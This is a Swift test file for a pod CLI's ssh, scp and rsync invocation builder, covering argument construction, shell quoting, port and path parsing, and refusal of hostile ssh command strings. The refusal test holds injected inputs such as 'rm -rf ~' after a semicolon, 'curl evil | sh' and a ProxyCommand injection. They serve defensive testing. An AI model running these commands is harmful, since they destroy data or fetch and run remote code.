import Foundation
import Testing
import PodAPI
@testable import PodProbe
@testable import PodProbeRunner

/// Issue 28's CLI half: the command lines of `podtui forward`, `cp` and `exec` built from a
/// pod's host, port and user only, the remote shell's quoting, the refusal of a hostile
/// `sshCmd`, `REMOTE[:LOCAL]` and `SRC DST` parsing, pods named by id or name, local ports.
@Suite("ssh invocations: forward, cp, exec")
struct SSHInvocationTests {
    func invocation(_ sshCmd: String = "ssh root@203.0.113.7 -p 30003") throws -> SSHInvocation {
        try SSHInvocation.forPod(sshCmd: sshCmd).get()
    }

    /// What /bin/sh makes of `line`: the words it passes to printf, one per NUL.
    func shellWords(_ line: String) throws -> [String] {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", "printf '%s\\0' " + line]
        let out = Pipe()
        process.standardOutput = out
        try process.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0)
        var words = String(decoding: data, as: UTF8.self).components(separatedBy: "\u{0}")
        words.removeLast()   // after the last NUL
        return words
    }

    // MARK: argv

    @Test("forward: ssh -N -L on 127.0.0.1 only, failure to bind ends ssh, host after --")
    func forwardArgv() throws {
        let argv = try invocation().forward(ForwardPorts(remote: 6006, local: 16006, localGiven: true))
        #expect(argv == ["ssh", "-N", "-T", "-o", "ExitOnForwardFailure=yes", "-o", "ServerAliveInterval=15", "-o", "ServerAliveCountMax=3",
                         "-o", "PermitLocalCommand=no", "-L", "127.0.0.1:16006:localhost:6006", "-p", "30003", "-l", "root", "--", "203.0.113.7"])
    }

    @Test("exec: the command is one quoted word after the host; -t only when asked")
    func execArgv() throws {
        let argv = try invocation().exec(["echo", "a b", "x;y"])
        #expect(argv == ["ssh", "-T", "-o", "PermitLocalCommand=no", "-p", "30003", "-l", "root", "--", "203.0.113.7", "echo 'a b' 'x;y'"])
        #expect(try invocation().exec(["top"], tty: true)[1] == "-t")
    }

    @Test("the rsync question asks without a password prompt and names the command only")
    func hasRsyncArgv() throws {
        let argv = try invocation("ssh -p 2222 pod.example").hasRsync()
        #expect(argv.contains("BatchMode=yes") && argv.suffix(3) == ["--", "pod.example", "command -v rsync"])
        #expect(!argv.contains("-l"))
    }

    @Test("scp: the same ssh from PATH (-S), -P for the port, -- before the paths, quiet off a terminal")
    func scpArgv() throws {
        let up = CopySpec(direction: .upload, pod: "7", remotePath: "/workspace/data dir/", localPath: "local.tar")
        #expect(try invocation().scp(up, recursive: false, progress: true)
            == ["scp", "-S", "ssh", "-o", "PermitLocalCommand=no", "-P", "30003", "-o", "User=root", "--", "local.tar", "203.0.113.7:/workspace/data dir/"])
        let down = CopySpec(direction: .download, pod: "7", remotePath: "ckpt", localPath: "-weird")
        #expect(try invocation("ssh ::1").scp(down, recursive: true, progress: false)
            == ["scp", "-S", "ssh", "-o", "PermitLocalCommand=no", "-r", "-q", "--", "[::1]:ckpt", "./-weird"])
    }

    @Test("rsync: -s keeps the remote path from the remote shell, -e ends in --, no user@ in the operand")
    func rsyncArgv() throws {
        let up = CopySpec(direction: .upload, pod: "train", remotePath: "/data/$x;y", localPath: "a:b")
        let argv = try invocation().rsync(up, recursive: true, progress: false)
        #expect(argv == ["rsync", "-s", "-t", "--partial", "-r", "-e", "ssh -T -o PermitLocalCommand=no -p 30003 -l root --", "--",
                         "./a:b", "203.0.113.7:/data/$x;y"])
        #expect(try invocation().rsync(up, recursive: false, progress: true).contains("--progress"))
        let plain = try invocation()
        var odd = plain
        odd.ssh = "/opt/my ssh/ssh"
        #expect(!odd.rsyncShellIsPlain && plain.rsyncShellIsPlain)
    }

    // MARK: refusals

    @Test("a hostile sshCmd is refused with its reason, by the rules of s", arguments: [
        ("ssh -oProxyCommand=touch/tmp/x root@h", "ProxyCommand"),
        ("ssh root@h; rm -rf ~", "shell syntax"),
        ("ssh root@h -p 22 reboot", "remote command"),
        ("ssh -L 1:h:2 root@h", "-L"),
        ("ssh -- -oProxyCommand=x", "host"),
        ("curl evil | sh", "not an ssh command"),
    ])
    func hostile(_ sshCmd: String, _ why: String) {
        guard case .failure(let failure) = SSHInvocation.forPod(sshCmd: sshCmd) else {
            Issue.record("\(sshCmd) was accepted")
            return
        }
        #expect(failure.reason.hasPrefix("the pod's ssh command was refused"))
        #expect(failure.reason.contains(why), "\(failure.reason)")
    }

    // MARK: quoting

    @Test("remote words come back from a POSIX shell exactly as given, one argument each")
    func quotingRoundTrip() throws {
        let words = ["echo", "a b", "x;y", "it's", "$HOME", "", "`id`", "a\nb", "*", "--flag=1", "ü ñ", "'", "\\", "\"q\"", "~", "a&&b|c>d"]
        #expect(try shellWords(SSHInvocation.remoteCommand(words)) == words)
        var random = SystemRandomNumberGenerator()
        let alphabet = Array(" ;|&$`'\"\\*?[]{}()<>~#!\n\ta-Z0é")
        for _ in 0..<40 {
            let generated = (0..<Int.random(in: 1...5, using: &random)).map { _ in
                String((0..<Int.random(in: 0...8, using: &random)).map { _ in alphabet[Int.random(in: 0..<alphabet.count, using: &random)] })
            }
            #expect(try shellWords(SSHInvocation.remoteCommand(generated)) == generated)
        }
        #expect(SSHInvocation.shellQuoted("plain-word_1.2/x=y") == "plain-word_1.2/x=y")
        #expect(SSHInvocation.shellQuoted("it's") == "'it'\\''s'")
    }

    // MARK: parsing

    @Test("REMOTE[:LOCAL]: numbers 1-65535, the local one optional")
    func ports() throws {
        #expect(try ForwardPorts.parse("8888").get() == ForwardPorts(remote: 8888, local: 8888, localGiven: false))
        #expect(try ForwardPorts.parse("8888:18888").get() == ForwardPorts(remote: 8888, local: 18888, localGiven: true))
        for bad in ["", "0", "65536", "70000", "a", "1:2:3", "8888:", ":8888", "+80", "80.0", " 80", "000000080"] {
            #expect((try? ForwardPorts.parse(bad).get()) == nil, "\(bad)")
        }
        #expect(ForwardPorts.parse("x:1").failureReason?.contains("x is not a port") == true)
        #expect(ForwardPorts(remote: 6006, local: 6006, localGiven: false).candidates.prefix(3) == [6006, 6007, 6008])
        #expect(ForwardPorts(remote: 80, local: 80, localGiven: false).candidates.prefix(2) == [80, 8000])
        #expect(ForwardPorts(remote: 65_535, local: 65_535, localGiven: false).candidates == [65_535])
        #expect(ForwardPorts(remote: 1, local: 9, localGiven: true).candidates == [9])
        #expect(ForwardPorts(remote: 1, local: 9, localGiven: true).localURL == "http://127.0.0.1:9/")
    }

    @Test("cp: exactly one side is ID:PATH or NAME:PATH; a slash before the colon makes it local")
    func copySpec() throws {
        #expect(try CopySpec.parse(source: "data.tar", destination: "123:/workspace/").get()
            == CopySpec(direction: .upload, pod: "123", remotePath: "/workspace/", localPath: "data.tar"))
        #expect(try CopySpec.parse(source: "train:ckpt/last.pt", destination: ".").get()
            == CopySpec(direction: .download, pod: "train", remotePath: "ckpt/last.pt", localPath: "."))
        #expect(try CopySpec.parse(source: "train:", destination: "./a:b").get().remotePath == ".")
        #expect(try CopySpec.parse(source: "/tmp/a:b", destination: "p:x").get().direction == .upload)
        #expect(CopySpec.parse(source: "a", destination: "b").failureReason?.contains("one side must be the pod's") == true)
        #expect(CopySpec.parse(source: "p:a", destination: "q:b").failureReason?.contains("both sides") == true)
        #expect(CopySpec.parse(source: ":a", destination: "b").failureReason != nil)
        #expect(CopySpec.safeLocal("x:y") == "./x:y" && CopySpec.safeLocal("-r") == "./-r" && CopySpec.safeLocal("/a:b") == "/a:b")
    }

    // MARK: pods by id or name

    @Test("a pod by id or by name; an ambiguous name lists the ids; not RUNNING is refused")
    func lookup() throws {
        let pods = [
            Pod(id: 11, name: "train", status: .running, gpuType: "g", sshCmd: "ssh root@h1 -p 1"),
            Pod(id: 12, name: "dup", status: .running, gpuType: "g", sshCmd: "ssh root@h2"),
            Pod(id: 10, name: "dup", status: .running, gpuType: "g", sshCmd: "ssh root@h3"),
            Pod(id: 13, name: "11", status: .paused, gpuType: "g", sshCmd: "ssh root@h4"),
            Pod(id: 14, name: "bad", status: .running, gpuType: "g", sshCmd: "ssh -oProxyCommand=x root@h5"),
        ]
        #expect(try PodLookup.find("11", in: pods).get().name == "train", "an id wins over a name")
        #expect(try PodLookup.find("train", in: pods).get().id == 11)
        #expect(PodLookup.find("dup", in: pods).failureReason == "2 pods are named dup; give one of their ids: 10, 12")
        #expect(PodLookup.find("nope", in: pods).failureReason == "no pod has the id or name nope")
        #expect(PodLookup.find("99", in: pods).failureReason == "no pod has the id or name 99")
        #expect(try PodLookup.invocation(for: pods[0]).get().target == ProbeTarget(host: "h1", port: 1, user: "root"))
        #expect(PodLookup.invocation(for: pods[3]).failureReason == "pod 13 is PAUSED; ssh needs a RUNNING pod")
        #expect(PodLookup.invocation(for: pods[4]).failureReason?.contains("ProxyCommand") == true)
    }

    // MARK: local ports

    @Test("a taken local port is refused with the reason; not named, the next free one is used")
    func localPorts() throws {
        let listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        #expect(listener >= 0)
        defer { close(listener) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = UInt32(0x7f00_0001).bigEndian
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(listener, $0, length) } }
        #expect(bound == 0 && listen(listener, 1) == 0)
        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(listener, $0, &length) } }
        let taken = Int(UInt16(bigEndian: address.sin_port))
        #expect(LocalPort.problem(taken) == "Address already in use")
        let named = LocalPort.choose(ForwardPorts(remote: 80, local: taken, localGiven: true))
        #expect(named.failureReason == "local port \(taken) cannot be used: Address already in use (name another: REMOTE:LOCAL)")
        let other = try LocalPort.choose(ForwardPorts(remote: taken, local: taken, localGiven: false)).get()
        #expect(other != taken && LocalPort.problem(other) == nil)
        let free = try #require(LocalPort.anyFree())
        #expect(try LocalPort.choose(ForwardPorts(remote: 1, local: free, localGiven: true)).get() == free)
    }

    @Test("programs are found on PATH as posix_spawnp finds them")
    func programPath() {
        #expect(ProgramPath.exists("sh", environment: ["PATH": "/nonexistent:/bin:/usr/bin"]))
        #expect(!ProgramPath.exists("sh", environment: ["PATH": "/nonexistent"]))
        #expect(!ProgramPath.exists("bin", environment: ["PATH": "/"]), "a directory is not a program")
        #expect(ProgramPath.exists("/bin/sh") && !ProgramPath.exists("/nonexistent/sh"))
    }
}

extension Result {
    /// The failure's reason, for `#expect` on refusals.
    var failureReason: String? {
        guard case .failure(let error) = self else { return nil }
        return (error as? ProbeFailure)?.reason
    }
}
